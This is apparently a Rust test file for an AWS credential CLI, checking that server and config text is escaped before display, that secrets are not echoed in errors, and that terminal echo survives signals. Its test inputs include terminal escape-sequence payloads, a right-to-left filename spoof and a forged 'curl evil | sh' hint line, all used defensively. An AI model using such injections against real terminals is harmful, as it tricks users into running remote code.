//! Hardening, terminal and input safety (issue 11 items 12–18): text from servers and files is
//! escaped before a person sees it (`--json` keeps exact values), secrets given on the command
//! line are never repeated, and commands that need no configuration do not read it.

use crate::support;

use support::{FakeHttp, OutputExt, Response, Sandbox, run};

fn static_profile(sb: &Sandbox) {
    sb.write_credentials("[default]\naws_access_key_id = AKIA\naws_secret_access_key = s\n");
}

/// Control characters as XML character references (how a server gets them past the parser).
fn xml_text(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            c if c.is_control() && c != '\n' => format!("&#x{:x};", c as u32),
            c => c.to_string(),
        })
        .collect()
}

/// GetCallerIdentity answering with this ARN.
fn identity_with_arn(arn: &'static str) -> FakeHttp {
    let arn = xml_text(arn);
    FakeHttp::new(move |_| {
        Response::xml(
            200,
            &format!(
                "<GetCallerIdentityResponse xmlns=\"https://sts.amazonaws.com/doc/2011-06-15/\"><GetCallerIdentityResult><Arn>{arn}</Arn><UserId>AIDA</UserId><Account>123456789012</Account></GetCallerIdentityResult><ResponseMetadata><RequestId>r</RequestId></ResponseMetadata></GetCallerIdentityResponse>"
            ),
        )
    })
}

const FORGED: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J";

#[test]
fn an_sts_error_message_with_escape_sequences_is_shown_escaped() {
    // issue 11 item 12: the <Message> changed the window title, cleared the screen and forged
    // a `hint:` line.
    let sb = Sandbox::new();
    static_profile(&sb);
    let fake = FakeHttp::new(|_| {
        Response::xml(
            403,
            &format!(
                "<ErrorResponse><Error><Type>Sender</Type><Code>AccessDenied</Code><Message>{}</Message></Error><RequestId>r</RequestId></ErrorResponse>",
                xml_text(&format!("no{FORGED}\nhint: curl evil | sh \u{202e}gnp.exe"))
            ),
        )
    });
    let out = run(sb
        .cmd()
        .env("AWS_ENDPOINT_URL_STS", fake.url())
        .args(["whoami"]));
    out.assert_code(1);
    let err = out.stderr_str();
    assert!(!err.contains('\u{1b}') && !err.contains('\u{7}'), "{err:?}");
    assert!(!err.contains('\u{202e}'), "{err:?}");
    assert!(
        !err.lines().any(|l| l.starts_with("hint: curl")),
        "a forged hint line:\n{err}"
    );
    assert!(
        err.contains("\\x1b]0;owned\\x07\\x1b[2J\\nhint: curl evil"),
        "{err}"
    );
    assert!(err.contains("\\u{202e}gnp.exe"), "{err}");
    // Our own hint is still there.
    assert!(
        err.lines().any(|l| l.starts_with("hint: the identity")),
        "{err}"
    );
}

#[test]
fn an_arn_with_escape_sequences_is_escaped_in_whoami_but_exact_in_json() {
    // issue 11 item 12: an ARN with ESC forged an `Account:` line (and `--short` goes in PS1).
    let arn = "arn:aws:iam::123456789012:user/x\u{1b}[1A\u{1b}[2K\rAccount:     999999999999";
    let sb = Sandbox::new();
    static_profile(&sb);
    let fake = identity_with_arn(arn);
    let out = run(sb
        .cmd()
        .env("AWS_ENDPOINT_URL_STS", fake.url())
        .args(["whoami"]));
    out.assert_success();
    let text = out.stdout_str();
    assert!(!text.contains('\u{1b}') && !text.contains('\r'), "{text:?}");
    assert!(
        text.contains("ARN:         arn:aws:iam::123456789012:user/x\\x1b[1A\\x1b[2K\\rAccount:"),
        "{text}"
    );
    assert_eq!(
        text.lines().filter(|l| l.starts_with("Account:")).count(),
        1,
        "{text}"
    );

    let out = run(sb
        .cmd()
        .env("AWS_ENDPOINT_URL_STS", fake.url())
        .args(["whoami", "--short"]));
    out.assert_success();
    assert_eq!(
        out.stdout_str(),
        "arn:aws:iam::123456789012:user/x\\x1b[1A\\x1b[2K\\rAccount:     999999999999\n"
    );

    let out = run(sb
        .cmd()
        .env("AWS_ENDPOINT_URL_STS", fake.url())
        .args(["whoami", "--json"]));
    out.assert_success();
    let doc: serde_json::Value = serde_json::from_str(&out.stdout_str()).unwrap();
    assert_eq!(doc["arn"], arn, "--json keeps the exact value");
    assert!(!out.stdout_str().contains('\u{1b}'), "JSON escapes it");
}

#[test]
fn a_role_arn_with_escape_sequences_in_the_config_is_escaped_in_messages() {
    // issue 11 item 12: config values quoted in messages and in --explain.
    let sb = Sandbox::new();
    sb.write_config(&format!(
        "[profile r]\nrole_arn = arn:aws:iam::1:role/x{FORGED}\nsource_profile = base\n"
    ));
    sb.write_credentials("[base]\naws_access_key_id = AKIA\naws_secret_access_key = s\n");
    let port = support::free_port();
    let out = run(sb
        .cmd()
        .env("AWS_ENDPOINT_URL_STS", format!("http://127.0.0.1:{port}"))
        .args(["export", "--profile", "r", "--explain"]));
    out.assert_code(1);
    let err = out.stderr_str();
    assert!(!err.contains('\u{1b}') && !err.contains('\u{7}'), "{err:?}");
    assert!(
        err.contains("  profile       FAILED: AssumeRole arn:aws:iam::1:role/x\\x1b]0;owned\\x07"),
        "{err}"
    );
    assert!(
        err.contains("caused by: AssumeRole arn:aws:iam::1:role/x\\x1b]0;owned\\x07"),
        "{err}"
    );
}

#[test]
fn secrets_starting_with_a_hyphen_are_never_repeated_by_an_error() {
    // issue 11 item 17: `--new-password --SECRET` printed the secret in clap's error.
    let sb = Sandbox::new();
    for args in [
        &["cognito", "--user", "alice", "--new-password", "--SECRET-1"][..],
        &["cognito", "--user", "alice", "--client-secret", "-SECRET-2"],
        &[
            "cognito",
            "--unauthenticated",
            "--new-password",
            "--SECRET-3",
        ],
        &["cognito", "--new-password", "--SECRET-4", "--bogus"],
        &[
            "cognito",
            "--user",
            "a",
            "--new-password",
            "--SECRET-5",
            "--new-password",
            "x",
        ],
        &["cognito", "--client-secret=--SECRET-6", "--user"],
    ] {
        let out = run(sb.cmd().args(args));
        assert_ne!(out.code(), Some(0), "{args:?}");
        assert_eq!(out.code(), Some(2), "{args:?}: {}", out.stderr_str());
        let err = out.stderr_str();
        assert!(
            !err.contains("SECRET"),
            "{args:?} repeats the secret:\n{err}"
        );
    }
}

#[test]
fn export_unset_needs_no_configuration() {
    // issue 11 item 18: a malformed config file made `export --unset` fail.
    let sb = Sandbox::new();
    sb.write_config("[profile broken\nregion = \u{1b}\n= nothing\n");
    sb.write_credentials("[[[\n");
    let out = run(sb
        .cmd()
        .env("AWS_PROFILE", "does-not-exist")
        .args(["export", "--unset"]));
    out.assert_success();
    let text = out.stdout_str();
    assert!(text.contains("unset AWS_ACCESS_KEY_ID\n"), "{text}");
    assert!(text.contains("unset AWS_SESSION_TOKEN\n"), "{text}");
    assert!(out.stderr_str().is_empty(), "{}", out.stderr_str());
    // The same for another format.
    let out = run(sb.cmd().args(["export", "--unset", "--format", "fish"]));
    out.assert_success();
    assert!(out.stdout_str().contains("AWS_ACCESS_KEY_ID"));
}

/// Runs aws-cred on a pseudo-terminal (its controlling terminal), waits for the password
/// prompt, checks that echo is off, sends `signal`, and prints `exit=<code> echo=<0|1>` after
/// the process ended: whether the terminal's echo is back on.
const PTY_SCRIPT: &str = r#"
import fcntl, os, select, signal, subprocess, sys, termios, time
master, slave = os.openpty()
def child_setup():
    os.setsid()
    fcntl.ioctl(0, termios.TIOCSCTTY, 0)
proc = subprocess.Popen(sys.argv[2:], stdin=slave, stdout=slave, stderr=slave,
                        preexec_fn=child_setup, close_fds=True)
seen, deadline = b"", time.time() + 20
while b"Password for" not in seen and time.time() < deadline and proc.poll() is None:
    ready, _, _ = select.select([master], [], [], 0.2)
    if ready:
        seen += os.read(master, 4096)
if b"Password for" not in seen:
    proc.kill()
    sys.exit("no prompt: %r" % seen)
echo_during = bool(termios.tcgetattr(slave)[3] & termios.ECHO)
proc.send_signal(int(sys.argv[1]))
try:
    code = proc.wait(timeout=10)
except subprocess.TimeoutExpired:
    proc.kill()
    sys.exit("did not exit after the signal")
echo_after = bool(termios.tcgetattr(slave)[3] & termios.ECHO)
print("during=%d exit=%d echo=%d" % (echo_during, code, echo_after))
"#;

#[test]
fn a_signal_during_a_password_prompt_restores_the_terminal_echo() {
    // issue 11 item 16: SIGTERM/SIGHUP during a password prompt left echo off.
    let Some(python) = support::find_program("python3") else {
        eprintln!("skipping: python3 not found");
        return;
    };
    let sb = Sandbox::new();
    for (signal, code) in [(15, 143), (1, 129), (2, 130)] {
        // The sandbox's environment, with python (which runs aws-cred on a pty) as the program.
        let aws_cred = sb.cmd();
        let mut cmd = std::process::Command::new(&python);
        cmd.env_clear();
        for (k, v) in aws_cred.get_envs() {
            if let Some(v) = v {
                cmd.env(k, v);
            }
        }
        cmd.current_dir(sb.home())
            .stdin(std::process::Stdio::null())
            .arg("-c")
            .arg(PTY_SCRIPT)
            .arg(signal.to_string())
            .args([
                env!("CARGO_BIN_EXE_aws-cred"),
                "cognito",
                "--user",
                "alice",
                "--user-pool-id",
                "us-east-1_AbCdEf123",
                "--client-id",
                "1example23456789",
                "--identity-pool-id",
                "us-east-1:1f392b6a-751d-4760-8849-5924149f8e67",
                "--region",
                "us-east-1",
            ]);
        let out = run(&mut cmd);
        out.assert_success();
        assert_eq!(
            out.stdout_str().trim(),
            format!("during=0 exit={code} echo=1"),
            "signal {signal}: {}",
            out.stderr_str()
        );
    }
}

fn bytes(b: &[u8]) -> std::ffi::OsString {
    use std::os::unix::ffi::OsStringExt;
    std::ffi::OsString::from_vec(b.to_vec())
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

#[test]
fn a_profile_name_that_is_not_utf8_is_a_usage_error() {
    // issue 11 item 13: AWS_PROFILE=$'prod\xff' exported [default]'s keys with exit 0.
    let sb = Sandbox::new();
    static_profile(&sb);
    for var in ["AWS_PROFILE", "AWS_DEFAULT_PROFILE"] {
        let out = run(sb.cmd().env(var, bytes(b"prod\xff")).args(["export"]));
        out.assert_code(2);
        out.assert_failed_eval();
        let err = out.stderr_str();
        assert!(err.contains(var) && err.contains("UTF-8"), "{err}");
        assert!(err.contains("hint:"), "{err}");
    }
    // Key variables too: never a silent fall-through to another identity.
    let out = run(sb
        .cmd()
        .env("AWS_ACCESS_KEY_ID", bytes(b"AKIA\xff"))
        .env("AWS_SECRET_ACCESS_KEY", "s")
        .args(["export"]));
    out.assert_code(2);
    assert!(out.stderr_str().contains("AWS_ACCESS_KEY_ID"));
}

#[test]
fn a_file_variable_that_is_not_utf8_is_used_as_a_path() {
    // issue 11 item 13: a non-UTF-8 AWS_SHARED_CREDENTIALS_FILE wrote into ~/.aws/credentials.
    use std::os::unix::ffi::OsStrExt;
    let sb = Sandbox::new();
    let mut path = sb.root().as_os_str().as_bytes().to_vec();
    path.extend_from_slice(b"/creds-\xff");
    let path = std::path::PathBuf::from(bytes(&path));
    let out = run(sb
        .cmd()
        .env("AWS_SHARED_CREDENTIALS_FILE", &path)
        .env("AWS_ACCESS_KEY_ID", "AKIAEXAMPLE")
        .env("AWS_SECRET_ACCESS_KEY", "secret")
        .args(["export", "--write-profile", "w"]));
    out.assert_success();
    let written = std::fs::read_to_string(&path).unwrap();
    assert!(
        written.contains("[w]") && written.contains("AKIAEXAMPLE"),
        "{written}"
    );
    assert!(
        !sb.credentials_path().exists(),
        "~/.aws/credentials untouched"
    );
    // And read from there.
    let out =
        run(sb
            .cmd()
            .env("AWS_SHARED_CREDENTIALS_FILE", &path)
            .args(["export", "--profile", "w"]));
    out.assert_success();
    assert!(out.stdout_str().contains("AKIAEXAMPLE"));
}

#[test]
fn exec_passes_every_variable_through_unchanged() {
    // issue 11 item 13: `exec` dropped variables that are not UTF-8.
    let sb = Sandbox::new();
    let out = run(sb
        .cmd()
        .env("AWS_ACCESS_KEY_ID", "AKIAEXAMPLE")
        .env("AWS_SECRET_ACCESS_KEY", "secret")
        .env("WEIRD_VALUE", bytes(b"ab\xff\xfecd"))
        .env(bytes(b"WEIRD_NAME_\xff"), "1")
        .args(["exec", "--", "env"]));
    out.assert_success();
    let lines = [b"\n", out.stdout.as_slice()].concat();
    assert!(
        contains(&lines, b"\nWEIRD_VALUE=ab\xff\xfecd\n"),
        "{}",
        out.stdout_str()
    );
    assert!(
        contains(&lines, b"\nWEIRD_NAME_\xff=1\n"),
        "{}",
        out.stdout_str()
    );
    assert!(contains(&lines, b"\nAWS_ACCESS_KEY_ID=AKIAEXAMPLE\n"));
}
